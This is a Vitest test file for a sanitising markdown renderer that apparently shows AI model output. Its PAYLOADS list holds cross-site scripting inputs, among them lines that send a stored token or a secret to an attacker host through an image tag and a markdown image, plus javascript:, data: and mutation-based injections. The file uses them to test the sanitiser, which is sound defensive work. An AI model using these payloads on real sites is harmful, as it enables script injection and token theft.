import { describe, expect, it } from "vitest";
import { StreamingMarkdown, renderBlocks } from "./blocks";
import { sanitise } from "./sanitise";

const labels = { copy: "Copy" };

const PAYLOADS = [
  `<img src=x onerror="fetch('https://attacker/?t='+localStorage.getItem('token'))">`,
  `<iframe srcdoc="<script>alert(1)</script>"></iframe>`,
  `[x](javascript:alert(1))`,
  "```<script>\nalert(1)\n```",
  `<svg onload=alert(1)>`,
  `![](https://attacker/?q=secret)`,
  `<a href="data:text/html,<script>alert(1)</script>">x</a>`,
  `[x](data:text/html;base64,PHNjcmlwdD4=)`,
  `<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>`,
  '```"><img src=x onerror=alert(1)>\ncode\n```',
  `| a |\n|---|\n| <img src=x onerror=alert(1)> |`,
  `[x](https://a.example "onmouseover=alert(1)")`,
];

function dom(html: string): Element {
  const element = document.createElement("div");
  element.innerHTML = html;
  return element;
}

function expectHarmless(html: string): void {
  const root = dom(html);
  expect(root.querySelector("script,iframe,img,svg,style,object,embed,form,input,math,link,meta")).toBeNull();
  for (const element of root.querySelectorAll("*")) {
    for (const { name, value } of element.attributes) {
      expect(name).not.toMatch(/^on|^style$|^src/);
      if (name === "href") expect(value).toMatch(/^(https?:|mailto:)/);
    }
  }
}

describe("model output", () => {
  it.each(PAYLOADS)("cannot run or fetch anything: %s", (payload) => {
    expectHarmless(renderBlocks(payload, labels).join(""));
  });

  it.each(PAYLOADS)("nor at any point while it streams in: %s", (payload) => {
    const stream = new StreamingMarkdown(labels);
    for (let length = 1; length <= payload.length; length += 1) {
      expectHarmless(stream.update(payload.slice(0, length)).join(""));
    }
  });

  it.each(PAYLOADS)("is stopped by the last gate alone: %s", (payload) => {
    expectHarmless(sanitise(payload));
  });

  it("turns pictures into links", () => {
    const link = dom(renderBlocks("![a cat](https://cats.example/1.png)", labels).join("")).querySelector("a")!;
    expect(link.href).toBe("https://cats.example/1.png");
    expect(link.textContent).toBe("a cat");
  });

  it("opens links elsewhere, without telling where from", () => {
    const link = dom(renderBlocks("<https://example.org>", labels).join("")).querySelector("a")!;
    expect([link.target, link.rel]).toEqual(["_blank", "noopener noreferrer nofollow"]);
  });

  it("keeps code left to right and what was written in it", () => {
    const pre = dom(renderBlocks("```html\n<b>&amp;</b>\n```", labels).join("")).querySelector("pre")!;
    expect(pre.dir).toBe("ltr");
    expect(pre.textContent).toBe("<b>&amp;</b>\n");
  });

  it("keeps column alignment without inline styles", () => {
    const cells = dom(renderBlocks("| a | b |\n|:-:|--:|\n| 1 | 2 |", labels).join("")).querySelectorAll("td");
    expect([...cells].map((cell) => cell.getAttribute("data-align"))).toEqual(["center", "right"]);
  });
});
